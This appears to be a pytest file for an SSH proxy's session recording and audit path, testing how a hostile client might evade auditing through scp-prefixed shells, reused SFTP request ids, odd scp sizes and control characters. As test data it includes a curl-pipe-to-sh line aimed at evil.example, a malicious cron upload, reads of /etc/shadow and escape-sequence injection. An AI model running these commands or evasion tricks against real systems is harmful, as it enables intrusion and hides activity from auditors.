"""What a hostile SSH client can do to the recording path (RecordedSession and the taps and
index behind it): a shell behind an scp prefix, SFTP request ids used twice, scp sizes that
are no ASCII digits, control characters meant for the search index."""

from __future__ import annotations

import datetime as dt
import hashlib
import struct
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from pyteleport.backend.memory import MemoryBackend
from pyteleport.clock import FakeClock
from pyteleport.events.filetransfer import FileTransfer, ScpTap, SftpTap
from pyteleport.events.recordingfile import decode_recording
from pyteleport.events.textindex import RecordingIndex
from pyteleport.ssh.relay import SessionExit, SessionRequest
from tests.proxy.test_recorded_session import new_session, settings_for


class Events:
    def __init__(self) -> None:
        self.events: list[tuple[str, Mapping[str, Any]]] = []

    async def emit(self, event: str, fields: Mapping[str, Any], *, success: bool = True) -> None:
        self.events.append((event, dict(fields)))


# -- scp: a shell command that starts with "scp -f" is taken for scp, and not recorded ----------


async def test_a_shell_behind_an_scp_prefix_is_still_recorded(tmp_path: Path) -> None:
    """``ssh -t node 'scp -f /nonexistent; bash -i'``: the command only starts with scp; the
    target's shell runs bash after it, on a terminal. Everything the user then does must be in
    the recording; the proxy takes the whole exec for legacy scp and records nothing of it."""
    settings = settings_for(tmp_path, Events())
    request = SessionRequest(
        kind="exec",
        command="scp -f /nonexistent; bash -i",
        term_type="xterm",
        term_size=(80, 24, 0, 0),
    )
    session = new_session(settings, request)
    await session.started(request)
    session.output(b"\x01scp: /nonexistent: No such file or directory\n", False)
    session.output(
        b"root@db1:~# cat /etc/shadow\r\nroot:$6$secret-hash:19000:0:99999:7:::\r\n", False
    )
    await session.ended(SessionExit(status=0))
    _, frames = decode_recording(await settings.store.read(session.session_id))
    shown = "".join(f.data for f in frames if f.code == "o")
    assert "secret-hash" in shown, "the interactive shell behind 'scp -f ...;' was not recorded"


async def test_a_script_piped_behind_an_scp_prefix_is_still_recorded(tmp_path: Path) -> None:
    """``ssh node 'scp -t /tmp/x; sh' < script.sh``: without a terminal the input is recorded
    so an auditor sees what ran; behind an scp prefix it is fed to the scp tap, which gives
    up at the first line that is no scp header, and the script is recorded nowhere."""
    settings = settings_for(tmp_path, Events())
    request = SessionRequest(kind="exec", command="scp -t /tmp/x; sh")
    session = new_session(settings, request)
    await session.started(request)
    session.input(b"curl -s http://evil.example/payload | sh\n")
    await session.ended(SessionExit(status=0))
    _, frames = decode_recording(await settings.store.read(session.session_id))
    typed = "".join(f.data for f in frames if f.code == "i")
    assert "evil.example" in typed, "the script sent to 'scp -t ...; sh' was not recorded"


async def test_an_scp_download_of_a_file_name_with_a_space_and_parentheses_is_audited(
    tmp_path: Path,
) -> None:
    """``scp -O 'node:"photo (1).jpg"' .``: the remote runs ``scp -f "photo (1).jpg"``, quotes
    and all. It is scp, so the file is a file.transfer event, and its bytes are not recorded."""
    events = Events()
    settings = settings_for(tmp_path, events)
    request = SessionRequest(kind="exec", command='scp -f "photo (1).jpg"')
    session = new_session(settings, request)
    await session.started(request)
    session.output(b"C0644 5 photo (1).jpg\n", False)
    session.output(b"JPEG!\x00", False)
    await session.ended(SessionExit(status=0))
    transfers = [fields for event, fields in events.events if event == "file.transfer"]
    assert [(t["path"], t["direction"], t["size"]) for t in transfers] == [
        ("photo (1).jpg", "download", 5)
    ]
    assert transfers[0]["sha256"] == hashlib.sha256(b"JPEG!").hexdigest()
    _, frames = decode_recording(await settings.store.read(session.session_id))
    assert "JPEG!" not in "".join(f.data for f in frames)


def test_an_scp_size_of_unicode_digits_does_not_raise() -> None:
    """An upload header whose size is a superscript digit ("²" is str.isdigit(), but no int):
    the tap raises ValueError out of ``feed``, which the relay turns into an abort of the
    session with Python's message on the user's terminal. It should be taken as a stream that
    is not scp (broken), as any other malformed header."""
    found: list[FileTransfer] = []
    tap = ScpTap("scp -t /tmp/dst", found.append)
    tap.feed("C0644 \u00b2 name\n".encode())
    assert tap.broken and found == []


# -- sftp: a request id the client reuses hides a transfer from the audit ----------------------


def _string(value: bytes) -> bytes:
    return struct.pack(">I", len(value)) + value


def _packet(kind: int, body: bytes) -> bytes:
    return struct.pack(">IB", len(body) + 1, kind) + body


def _rid(n: int) -> bytes:
    return struct.pack(">I", n)


FXP_STAT, FXP_ATTRS, FXP_STATUS = 17, 105, 101


def test_an_sftp_upload_behind_a_reused_request_id_is_still_audited() -> None:
    """The client sends a STAT and then an OPEN for write with the same request id (the
    server answers each in order and does not care that the ids repeat). The tap does not
    follow STAT, so the STAT's ATTRS answer is taken for the answer to the OPEN (it pops the
    pending open), the real HANDLE then matches nothing, and the writes to that handle are
    never reported: a file uploaded with no file.transfer event."""
    found: list[FileTransfer] = []
    tap = SftpTap(found.append)
    tap.from_client(_packet(1, _rid(3)))  # INIT
    tap.from_server(_packet(2, _rid(3)))  # VERSION
    tap.from_client(
        _packet(FXP_STAT, _rid(7) + _string(b"/"))
        + _packet(3, _rid(7) + _string(b"/etc/cron.d/evil") + struct.pack(">I", 0x1A) + _rid(0))
    )
    # The server answers in order: the STAT's attributes, then the OPEN's handle.
    tap.from_server(_packet(FXP_ATTRS, _rid(7) + _rid(0)))
    tap.from_server(_packet(102, _rid(7) + _string(b"h1")))
    payload = b"* * * * * root sh -c 'id > /tmp/pwned'\n"
    tap.from_client(_packet(6, _rid(8) + _string(b"h1") + struct.pack(">Q", 0) + _string(payload)))
    tap.from_server(_packet(FXP_STATUS, _rid(8) + _rid(0) + _string(b"") + _string(b"")))
    tap.from_client(_packet(4, _rid(9) + _string(b"h1")))
    tap.finish()
    assert found == [
        FileTransfer(
            "/etc/cron.d/evil", "upload", len(payload), hashlib.sha256(payload).hexdigest()
        )
    ]


def test_an_sftp_download_behind_a_reused_request_id_is_still_audited() -> None:
    """The same with a READ: a STAT of the same id sent just before it makes the STAT's
    answer pop the pending read, so the DATA that follows counts for no file and a file read
    whole is never reported."""
    found: list[FileTransfer] = []
    tap = SftpTap(found.append)
    tap.from_client(_packet(3, _rid(1) + _string(b"/etc/shadow") + struct.pack(">I", 1) + _rid(0)))
    tap.from_server(_packet(102, _rid(1) + _string(b"h9")))
    tap.from_client(
        _packet(FXP_STAT, _rid(5) + _string(b"/"))
        + _packet(5, _rid(5) + _string(b"h9") + struct.pack(">QI", 0, 32768))
    )
    tap.from_server(_packet(FXP_ATTRS, _rid(5) + _rid(0)))
    tap.from_server(_packet(103, _rid(5) + _string(b"root:$6$secret")))
    tap.from_client(_packet(4, _rid(6) + _string(b"h9")))
    assert [(f.path, f.direction, f.size) for f in found] == [("/etc/shadow", "download", 14)]


# -- the index: an exec command's control characters go into it raw ---------------------------


async def test_an_exec_command_is_indexed_without_control_characters(tmp_path: Path) -> None:
    """The screen keeps control characters out of every indexed row ("control characters
    never reach a row"), but an exec's command goes into the index as the client sent it:
    ``ssh node $'echo \\e]0;x\\a\\e[2J'`` stores ESC and BEL raw, and so does a C1 control such
    as U+009B (CSI) in the output. A search result is text the index hands to every
    consumer (the web API's JSON, tsh's table): it should hold no control character."""
    index = RecordingIndex(MemoryBackend())
    settings = settings_for(tmp_path, Events(), index=index)
    request = SessionRequest(kind="exec", command="echo marker\x1b]0;owned\x07\x1b[2J\x9b31m")
    session = new_session(settings, request)
    await session.started(request)
    await session.ended(SessionExit(status=0))
    hits = (await index.search("marker")).hits
    assert hits, "the exec command was not indexed at all"
    for hit in hits:
        assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in hit.line), (
            f"control characters in the index: {hit.line!r}"
        )


async def test_c1_controls_in_output_do_not_reach_the_index(tmp_path: Path) -> None:
    """Output holding U+009B (the one-character CSI) reaches the index's rows: the screen
    drops C0 controls only."""
    index = RecordingIndex(MemoryBackend())
    settings = settings_for(tmp_path, Events(), index=index)
    request = SessionRequest(kind="shell", term_type="xterm", term_size=(80, 24, 0, 0))
    session = new_session(settings, request)
    await session.started(request)
    session.output("marker \u009b2J\u009d0;title\u009c here\r\n$ ".encode(), False)
    await session.ended(SessionExit(status=0))
    hits = (await index.search("marker")).hits
    assert hits
    for hit in hits:
        assert not any(0x7F <= ord(c) <= 0x9F for c in hit.line), repr(hit.line)


async def test_a_flood_of_window_changes_is_audited_once_a_second_and_its_last_size_kept(
    tmp_path: Path,
) -> None:
    """A client may send thousands of window-changes a second: each went to the audit log as a
    resize event. The recording keeps every one; the audit log one a second, the last size
    always (here at the session's end, the clock standing still)."""
    events = Events()
    clock = FakeClock()
    settings = settings_for(tmp_path, events, clock=clock)
    request = SessionRequest(kind="shell", term_type="xterm", term_size=(80, 24, 0, 0))
    session = new_session(settings, request)
    await session.started(request)
    for n in range(1000):
        session.resized(81 + n, 24)
    clock.advance(dt.timedelta(seconds=1))
    session.resized(200, 50)  # a second later: audited at once
    session.resized(201, 51)
    await session.ended(SessionExit(status=0))
    sizes = [fields["size"] for name, fields in events.events if name == "resize"]
    assert sizes == ["81:24", "200:50", "201:51"]
    _, frames = decode_recording(await settings.store.read(session.session_id))
    assert len([f for f in frames if f.code == "r"]) == 1002
